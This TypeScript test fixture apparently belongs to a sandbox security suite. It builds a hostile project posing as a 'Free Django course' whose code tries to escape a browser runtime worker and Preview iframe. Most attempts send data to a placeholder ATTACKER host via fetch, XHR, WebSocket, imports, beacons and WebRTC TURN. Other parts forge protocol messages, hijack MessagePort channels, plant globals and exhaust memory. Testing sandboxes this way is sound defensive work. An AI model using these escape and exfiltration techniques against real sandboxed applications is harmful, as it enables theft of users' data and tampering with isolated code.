/**
 * The attacker's project for the attack suite (attacks.spec.ts): a Django project whose module top
 * level, views and rendered pages try every way out of the runtime sandbox and the Preview. Placeholders
 * ATTACKER, UDP_PORT and TCP_PORT become the attacker machine's addresses (attacker.ts).
 */
import { get_builtin_scenario } from "../src/scenarios";
import type { Scenario } from "../src/scenarios/format";
import type { Attacker } from "./attacker";

export const SECRET = "VICTIM-SECRET-DRAFT-CONTENT";

/** Module top level: forge protocol replies, replace onmessage, patch what the runtime's channel might use. */
const EVIL_MODULE = String.raw`// hello/evil.ts — runs when the project loads (the first Send).
export const seen = { onmessage: 0, captured: 0 };
const forged = (id) => ({ type: "response", id, result: { response: { status: 200, reason: "OK", headers: [["Content-Type", "text/plain"]], body: new TextEncoder().encode("FORGED by earlier user code") }, trace: { spans: [] }, logs: [] } });
const nativePost = MessagePort.prototype.postMessage;
// Any MessagePort the runtime's own code hands to a patched function is kept, to read and forge on.
const stolen = [];
const keep = (x) => { if (x instanceof MessagePort && !stolen.includes(x)) { stolen.push(x); seen.captured++; } };
self.onmessage = () => { seen.onmessage++; };
MessagePort.prototype.postMessage = function (message, transfer) { keep(this); return Reflect.apply(nativePost, this, [message, transfer]); };
const dataGetter = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data").get;
Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get() { keep(this.target); for (const p of this.ports || []) keep(p); return Reflect.apply(dataGetter, this, []); } });
Function.prototype.call = new Proxy(Function.prototype.call, { apply(target, fn, args) { keep(args[0]); return Reflect.apply(fn, args[0], args.slice(1)); } });
function forge() {
  for (let id = 1; id <= 40; id++) {
    self.postMessage(forged(id));
    for (const port of stolen.slice()) try { Reflect.apply(nativePost, port, [forged(id)]); } catch (e) {}
  }
  self.postMessage({ type: "response", id: 3, result: { response: null, trace: null, logs: null } });
  self.postMessage({ type: "database", id: 3, image: new Uint8Array(1024) });
}
forge();
setInterval(forge, 100);
// A 300 MB database image, handed over (transferred) on the worker's own channel: nobody listens there.
const huge = new Uint8Array(300 * 1024 * 1024);
self.postMessage({ type: "database", id: 3, image: huge }, [huge.buffer]);
// A mark in the worker's globals: a runtime reused for the victim's next project would still hold it.
globalThis.__planted = "${SECRET}";
`;

/** GET /hello/worker/: every way out of the runtime worker, one line each. */
const WORKER_ATTACKS = String.raw`
export async function worker_attacks(request) {
  const A = "ATTACKER";
  const out = [];
  const attempt = async (name, fn) => {
    try {
      const value = await Promise.race([Promise.resolve().then(fn), new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 2000))]);
      out.push(name + ": returned " + String(value).slice(0, 60));
    } catch (e) {
      out.push(name + ": blocked (" + (e && e.name) + ")");
    }
  };
  // The property as the prototype chain holds it (a method, or an accessor's value).
  const owner = (name) => { let o = globalThis; while (o && !Object.getOwnPropertyDescriptor(o, name)) o = Object.getPrototypeOf(o); const d = Object.getOwnPropertyDescriptor(o, name); return d.get ? d.get.call(globalThis) : d.value; };
  const dynamicImport = new Function("u", "return import(u)");
  await attempt("fetch", () => fetch(A + "/fetch"));
  await attempt("fetch through the prototype chain", () => owner("fetch").call(globalThis, A + "/proto-fetch"));
  await attempt("XMLHttpRequest", () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open("POST", A + "/xhr"); x.onload = () => res(x.status); x.onerror = () => rej(new Error("error")); x.send("${SECRET}"); }));
  await attempt("synchronous XMLHttpRequest", () => { const x = new XMLHttpRequest(); x.open("GET", A + "/xhr-sync", false); x.send(); return x.status; });
  await attempt("WebSocket", () => new Promise((res, rej) => { const w = new WebSocket(A.replace("http", "ws") + "/ws"); w.onopen = () => res("open"); w.onerror = () => rej(new Error("error")); }));
  await attempt("EventSource", () => new Promise((res, rej) => { const e = new EventSource(A + "/sse"); e.onopen = () => res("open"); e.onerror = () => { e.close(); rej(new Error("error")); }; }));
  await attempt("WebTransport", () => new WebTransport(A.replace("http", "https") + "/wt").ready);
  await attempt("import() built by new Function", () => dynamicImport(A + "/fn-import.js"));
  await attempt("import() in direct eval", () => eval("import(A + '/eval-import.js')"));
  await attempt("import() in indirect eval", () => (0, eval)("import('" + A + "/indirect-eval-import.js')"));
  await attempt("import() built by (() => {}).constructor", () => (() => {}).constructor("u", "return import(u)")(A + "/ctor-import.js"));
  await attempt("import() built by the async function constructor", () => (async () => {}).constructor("u", "return await import(u)")(A + "/async-ctor-import.js"));
  await attempt("import() of a blob: module importing the network", () => dynamicImport(URL.createObjectURL(new Blob(['import "' + A + '/blob-module.js";'], { type: "text/javascript" }))));
  await attempt("import() of a data: module", () => dynamicImport("data:text/javascript," + encodeURIComponent("fetch('" + A + "/data-module')")));
  await attempt("importScripts", () => importScripts(A + "/import-scripts.js"));
  await attempt("importScripts through the prototype chain", () => owner("importScripts").call(globalThis, A + "/proto-import-scripts.js"));
  await attempt("indexedDB (the victim's drafts)", () => new Promise((res, rej) => { const r = indexedDB.open("framework-lab"); r.onsuccess = () => res("opened " + [...r.result.objectStoreNames]); r.onerror = () => rej(r.error); }));
  await attempt("indexedDB through the prototype chain", () => new Promise((res, rej) => { const r = owner("indexedDB").open("framework-lab"); r.onsuccess = () => res("opened"); r.onerror = () => rej(r.error); }));
  await attempt("caches", () => caches.open("framework-lab"));
  await attempt("Origin Private File System", () => navigator.storage.getDirectory());
  await attempt("FontFace with url()", () => new FontFace("x", "url(" + A + "/font.woff2)").load());
  await attempt("a Worker from a URL", () => new Worker(A + "/worker.js"));
  await attempt("a blob: Worker that fetches", () => new Promise((res, rej) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + A + "/nested-worker').then(() => postMessage('REACHED'), (e) => postMessage('blocked'))"], { type: "text/javascript" }))); w.onmessage = (e) => (e.data === "REACHED" ? res(e.data) : rej(new Error(e.data))); w.onerror = () => rej(new Error("error")); }));
  await attempt("SharedWorker", () => new SharedWorker(A + "/shared.js"));
  await attempt("navigator.sendBeacon", () => navigator.sendBeacon(A + "/beacon", "x"));
  await attempt("the page's document", () => document.title);
  await attempt("the page's localStorage", () => localStorage.length);
  // Not an attempt line: the post happens, in the sandbox's own origin; the suite checks the page hears nothing.
  const channel = new BroadcastChannel("framework-lab");
  channel.postMessage({ planted: "${SECRET}" });
  channel.close();
  return new HttpResponse(out.join("\n"), { content_type: "text/plain" });
}

export function forged(request) {
  return new HttpResponse("real response; onmessage saw " + seen.onmessage + " messages; " + seen.captured + " ports or events captured; planted here: " + (globalThis.__planted === "${SECRET}" ? "yes" : "no"), { content_type: "text/plain" });
}
`;

/** GET /hello/preview/: a page whose scripts try every way out of the Preview. */
const PREVIEW_PAGE = String.raw`<!doctype html><html><head>
<link rel="stylesheet" href="ATTACKER/style.css"><link rel="prefetch" href="ATTACKER/prefetch"><link rel="preload" as="fetch" href="ATTACKER/preload">
<link rel="preconnect" href="ATTACKER"><link rel="modulepreload" href="ATTACKER/modulepreload.js"><link rel="icon" href="ATTACKER/favicon.ico">
<style>@import url(ATTACKER/import.css); body { background: url(ATTACKER/background.png) } @font-face { font-family: x; src: url(ATTACKER/font.woff) } p { font-family: x }</style>
<script src="ATTACKER/script.js"></script>
</head><body><p>Hostile page</p>
<img src="ATTACKER/img.png"><iframe src="ATTACKER/frame"></iframe><object data="ATTACKER/object"></object><embed src="ATTACKER/embed"><video src="ATTACKER/video" autoplay></video><audio src="ATTACKER/audio" autoplay></audio>
<form id="exfiltrate" action="ATTACKER/form" method="post"><input name="secret" value="x"></form>
<pre id="out"></pre>
<script>
  const A = "ATTACKER";
  const out = [];
  let stolenPorts = 0;
  addEventListener("message", (e) => { if (e.ports && e.ports.length) stolenPorts++; }, true);
  const nativePost = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (m, t) { stolenPorts++; return nativePost.call(this, m, t); };
  const attempt = async (name, fn) => {
    try {
      const value = await Promise.race([Promise.resolve().then(fn), new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 2000))]);
      out.push(name + ": returned " + String(value).slice(0, 40));
    } catch (e) {
      out.push(name + ": blocked (" + (e && e.name) + ")");
    }
  };
  // WebRTC: the browser lets the page build a peer connection; whether a packet leaves, the attacker's sockets tell.
  const rtc = async (name, servers, Peer = RTCPeerConnection) => {
    try {
      const pc = new Peer({ iceServers: servers });
      pc.createDataChannel("exfiltrate");
      await pc.setLocalDescription(await pc.createOffer());
      await new Promise((r) => setTimeout(r, 1500));
      out.push(name + ": constructed, ICE gathering " + pc.iceGatheringState);
      pc.close();
    } catch (e) {
      out.push(name + ": blocked (" + (e && e.name) + ")");
    }
  };
  (async () => {
    await attempt("fetch", () => fetch(A + "/preview-fetch"));
    await attempt("XMLHttpRequest", () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open("GET", A + "/preview-xhr"); x.onload = () => res(x.status); x.onerror = () => rej(new Error("error")); x.send(); }));
    await attempt("WebSocket", () => new Promise((res, rej) => { const w = new WebSocket(A.replace("http", "ws") + "/preview-ws"); w.onopen = () => res("open"); w.onerror = () => rej(new Error("error")); }));
    await attempt("EventSource", () => new Promise((res, rej) => { const e = new EventSource(A + "/preview-sse"); e.onopen = () => res("open"); e.onerror = () => { e.close(); rej(new Error("error")); }; }));
    // sendBeacon only queues; whether the request leaves, the attacker's server tells.
    await attempt("navigator.sendBeacon", () => navigator.sendBeacon(A + "/preview-beacon", "x"));
    await attempt("an Image", () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded"); i.onerror = () => rej(new Error("error")); i.src = A + "/preview-image.png"; }));
    await attempt("import()", () => import(A + "/preview-import.js"));
    await attempt("FontFace with url()", () => new FontFace("y", "url(" + A + "/preview-font.woff2)").load());
    await attempt("a blob: Worker that fetches", () => new Promise((res, rej) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + A + "/preview-worker').then(() => postMessage('REACHED'), () => postMessage('blocked'))"]))); w.onmessage = (e) => (e.data === "REACHED" ? res(e.data) : rej(new Error(e.data))); w.onerror = () => rej(new Error("error")); }));
    await attempt("a service worker", () => navigator.serviceWorker.register("/preview-sw.js"));
    await attempt("indexedDB", () => new Promise((res, rej) => { const r = indexedDB.open("framework-lab"); r.onsuccess = () => res("opened"); r.onerror = () => rej(r.error); }));
    await attempt("localStorage", () => localStorage.length);
    await attempt("the app's document", () => parent.document.title);
    await attempt("window.open", () => { const w = window.open(A + "/popup"); if (!w) throw new Error("no window"); return w; });
    await attempt("navigate the app", () => { top.location = A + "/top"; return "navigated"; });
    // Actions whose outcome the suite checks in the app: a form posted off the site (refused by the
    // bridge's checks), a navigation forged on the app's window (nobody listens there).
    document.getElementById("exfiltrate").submit();
    parent.postMessage({ kind: "link", href: "/hello/forged-by-preview/", user: true }, "*");
    parent.postMessage({ source: "framework-lab-preview", kind: "link", href: "/hello/forged-by-preview/", token: "guess" }, "*");
    const bridge = document.scripts[0].textContent;
    await rtc("WebRTC over UDP (STUN)", [{ urls: "stun:127.0.0.1:UDP_PORT" }]);
    await rtc("WebRTC over TCP (TURN)", [{ urls: "turn:127.0.0.1:TCP_PORT?transport=tcp", username: "${SECRET}", credential: "x" }]);
    await attempt("WebRTC from an about:blank frame", () => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.RTCPeerConnection; });
    await new Promise((r) => setTimeout(r, 500));
    out.push("a random secret in the bridge script: " + (/[0-9a-f]{16}|[0-9]{12}/i.test(bridge) ? "found" : "none"));
    out.push("bridge port captured by the page's scripts: " + stolenPorts);
    out.push("done");
    document.getElementById("out").textContent = out.join("\n");
  })();
</script></body></html>`;

/** GET /hello/navigate/: a page that tries to navigate its frame off the site, every way it can. */
const NAVIGATE_PAGE = String.raw`<meta http-equiv="refresh" content="0;url=ATTACKER/refresh"><p id="state">still here</p>
<a id="ping" href="/hello/forged/" ping="ATTACKER/ping">a link with ping</a>
<script>
  setTimeout(() => { location.href = "ATTACKER/location"; }, 200);
  setTimeout(() => { location.replace("ATTACKER/replace"); }, 400);
  setTimeout(() => { const a = document.createElement("a"); a.href = "ATTACKER/anchor"; document.body.append(a); a.click(); }, 600);
</script>`;

/** GET /hello/loop/: a page that submits a form as soon as it loads, to itself. */
const LOOP_PAGE = `<form method="post" action="/hello/loop/"><input name="n" value="1"></form><script>document.forms[0].submit();</script><p>Looping</p>`;

export function attackerScenario(attacker: Attacker): Scenario {
  // The built-in's checks name its own requests; the attacker's lesson has none.
  const { checks: _checks, ...base } = get_builtin_scenario("django-hello")!;
  const fill = (text: string) =>
    text.replaceAll("ATTACKER", attacker.origin).replaceAll("UDP_PORT", String(attacker.udpPort)).replaceAll("TCP_PORT", String(attacker.tcpPort)).replaceAll("${SECRET}", SECRET);
  const views = `import { HttpResponse } from "django/http";
import { seen } from "./evil";
${fill(WORKER_ATTACKS)}
export function preview(request) { return new HttpResponse(${JSON.stringify(fill(PREVIEW_PAGE))}); }
export function navigate(request) { return new HttpResponse(${JSON.stringify(fill(NAVIGATE_PAGE))}); }
export function loop(request) { return new HttpResponse(${JSON.stringify(LOOP_PAGE)}); }
`;
  const urls = `import { path } from "django/urls";
import * as views from "./views";
export const app_name = "hello";
export const urlpatterns = [
  path("worker/", views.worker_attacks),
  path("forged/", views.forged),
  path("preview/", views.preview),
  path("navigate/", views.navigate),
  path("loop/", views.loop),
];
`;
  const root = `import { include, path } from "django/urls";
export const urlpatterns = [path("hello/", include("hello.urls"))];
`;
  return {
    ...base,
    title: "Free Django course, lesson 1",
    description: "A friendly lesson, it says",
    files: {
      ...base.files,
      // Views are async (each attempt is awaited): the built-in's synchronous TimingMiddleware goes.
      "project/settings.ts": base.files["project/settings.ts"].replace('  "project.middleware.TimingMiddleware",\n', ""),
      "hello/views.ts": views,
      "hello/urls.ts": urls,
      "hello/evil.ts": EVIL_MODULE,
      "project/urls.ts": root,
    },
    requests: [
      { method: "GET", target: "/hello/worker/" },
      { method: "GET", target: "/hello/forged/" },
      { method: "GET", target: "/hello/preview/" },
      { method: "GET", target: "/hello/navigate/" },
      { method: "GET", target: "/hello/loop/" },
    ],
  };
}

